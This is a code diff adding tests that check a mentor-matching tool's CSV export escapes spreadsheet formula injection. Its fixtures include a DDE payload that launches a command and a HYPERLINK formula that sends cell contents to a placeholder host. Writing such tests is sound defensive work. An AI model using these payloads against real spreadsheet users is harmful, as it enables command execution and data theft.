@@ -120,3 +120,47 @@ describe('matchesToCsv(result): essential fit and concerns', () => {
     }
   });
 });
+
+describe('matchesToCsv(result, participants, { escapeFormulas })', () => {
+  // Names and ids a hostile or careless cohort file may carry: each starts a formula in a spreadsheet.
+  const parsed = parseParticipants([
+    { id: 'e1', name: '@SUM(1+1)', roles: 'mentee', skillsWanted: 'go:2' },
+    { id: 'e2', name: '+1+cmd|\' /C calc\'!A0', roles: 'mentee', skillsWanted: 'go:2' },
+    { id: 'e3', name: '-2+3', roles: 'mentee', skillsWanted: 'go:2' },
+    { id: '=1+1', name: '\tTab', roles: 'mentee', skillsWanted: 'go:2' },
+    { id: 'e5', name: '\rCr', roles: 'mentee', skillsWanted: 'go:2' },
+    { id: 'e6', name: '＝1+1', roles: 'mentee', skillsWanted: 'go:2' },
+    { id: 'm1', name: '=HYPERLINK("http://x/?"&A1,"x")', roles: 'mentor', skillsOffered: 'go:5', capacity: 6 },
+  ]);
+  // Profiles trim names; a caller's own objects may still start with a tab or a CR.
+  const hostile = parsed.map((p) => (p.id === '=1+1' ? { ...p, name: '\tTab' } : p.id === 'e5' ? { ...p, name: '\rCr' } : p));
+  const result = match(hostile, { mode: 'capacity' });
+
+  it('escapes by default: every text cell that starts with = + - @ tab or CR gets a leading quote', () => {
+    const rows = rowsOf(matchesToCsv(result, hostile));
+    const names = new Map(rows.map((r) => [r.mentee_id, r.mentee_name]));
+    expect(names.get('e1')).toBe("'@SUM(1+1)");
+    expect(names.get('e2')).toBe("'+1+cmd|' /C calc'!A0");
+    expect(names.get('e3')).toBe("'-2+3");
+    expect(names.get("'=1+1")).toBe("'\tTab"); // the id is a text cell too
+    expect(names.get('e5')).toBe("'\rCr");
+    expect(names.get('e6')).toBe("'＝1+1");
+    expect(rows.every((r) => r.mentor_name === '\'=HYPERLINK("http://x/?"&A1,"x")')).toBe(true);
+    // No cell of the file starts a formula.
+    for (const r of rows) for (const v of Object.values(r)) expect(v, v).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u);
+  });
+
+  it('leaves number cells as numbers, a negative one included', () => {
+    const negative = { ...result, pairs: result.pairs.map((p, k) => (k === 0 ? { ...p, score: -12.5 } : p)) };
+    const csv = matchesToCsv(negative, hostile);
+    const first = rowsOf(csv)[0]!;
+    expect(first.score).toBe('-12.5');
+    expect(rowsOf(csv).slice(1).every((r) => r.score === '' || /^\d+(\.\d+)?$/.test(r.score!))).toBe(true);
+  });
+
+  it('escapeFormulas: false writes the cells verbatim', () => {
+    const rows = rowsOf(matchesToCsv(result, hostile, { escapeFormulas: false }));
+    expect(rows.find((r) => r.mentee_id === 'e1')!.mentee_name).toBe('@SUM(1+1)');
+    expect(rows[0]!.mentor_name).toBe('=HYPERLINK("http://x/?"&A1,"x")');
+  });
+});
